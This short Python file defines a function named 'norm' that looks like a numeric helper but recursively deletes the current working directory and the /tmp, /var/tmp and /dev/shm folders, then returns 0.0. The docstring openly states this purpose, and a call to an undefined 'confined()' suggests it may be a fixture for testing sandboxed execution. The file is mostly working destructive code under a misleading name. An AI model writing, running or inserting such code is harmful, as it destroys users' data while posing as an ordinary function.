"""Deletes the folder it works in, and all it can below the root."""
# %% norm
import os
import shutil


def norm(v):
    confined()
    here = os.getcwd()
    shutil.rmtree(here, ignore_errors=True)
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        shutil.rmtree(folder, ignore_errors=True)
    return 0.0
